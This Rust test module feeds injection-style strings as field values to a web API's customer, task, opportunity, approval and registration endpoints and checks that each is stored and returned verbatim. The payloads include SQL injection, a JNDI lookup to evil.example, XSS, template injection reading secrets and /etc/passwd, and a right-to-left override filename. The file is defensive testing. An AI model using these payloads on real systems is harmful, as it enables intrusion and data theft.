//! The accepted cases: SQL and template text is data. Each is created (or updated), answered with
//! the exact text, and read back with the exact text; the bundled routes copy it into the
//! cascade's rows without running it (the test checks that no route failed).

use serde_json::json;

use super::fixture::Fixture;
use super::table::json as body;
use super::table::{post, put, Table};
use super::{Auth, ReadBack, PASSWORD};

pub(super) fn cases(f: &Fixture, table: &mut Table) {
    let a = f.a.auth();

    #[rustfmt::skip]
    let customers: [(&'static str, &str); 12] = [
        ("name", "'; DROP TABLE customers; --"),
        ("name", "Robert'); DROP TABLE users;--"),
        ("name", "x' UNION SELECT password_hash FROM users --"),
        ("name", "{% for %}"),
        ("name", "$1 ? :name @p1 %s {0}"),
        ("name", r#"\"'\\; -- \x00 \u0000"#),
        ("name", "${jndi:ldap://evil.example/a}"),
        ("name", "<script>alert(1)</script>"),
        ("name", "💣 \u{202e}txt.exe"),
        ("industry", "{{ 7*7 }}"),
        ("address", "{% for i in range(1000000) %}x{% endfor %}"),
        ("phone", "1; SELECT pg_sleep(10)--"),
    ];
    for (field, value) in customers {
        let mut customer = json!({"name": "Injection Probe Ltd"});
        customer[field] = json!(value);
        table.store(
            format!("customer {field} {value:?}"),
            post("/api/customers", &a, body(customer)),
            field,
            ReadBack::Item("/api/customers"),
        );
    }

    #[rustfmt::skip]
    let others = [
        ("task title {{ 7*7 }}", post("/api/tasks", &a, body(json!({"title": "{{ 7*7 }}"}))), "title", ReadBack::Item("/api/tasks")),
        ("task description reading the environment", post("/api/tasks", &a, body(json!({"title": "Env", "description": "{{ env.JWT_SECRET }}{{ config }}"}))), "description", ReadBack::Item("/api/tasks")),
        ("task title updated to {%- include '/etc/passwd' -%}", put(format!("/api/tasks/{}", f.a_task), &a, body(json!({"title": "{%- include '/etc/passwd' -%}"}))), "title", ReadBack::Item("/api/tasks")),
        ("opportunity name with raw tags", post("/api/opportunities", &a, body(json!({"customerId": f.a_customer, "name": "{% raw %}{{ 7*7 }}{% endraw %}"}))), "name", ReadBack::Item("/api/opportunities")),
        ("approval title with an UPDATE", post("/api/approvals", &a, body(json!({"title": "'; UPDATE approvals SET status = 'APPROVED'; --"}))), "title", ReadBack::Listed("/api/approvals")),
        ("registration name with SQL and a template", post("/api/auth/register", &Auth::Anonymous, body(json!({"email": "bobby'tables@example.com", "password": PASSWORD, "name": "{{ 7*7 }}'; DROP TABLE users; --"}))), "name", ReadBack::Me),
    ];
    for (name, request, field, read_back) in others {
        table.store(name, request, field, read_back);
    }
}
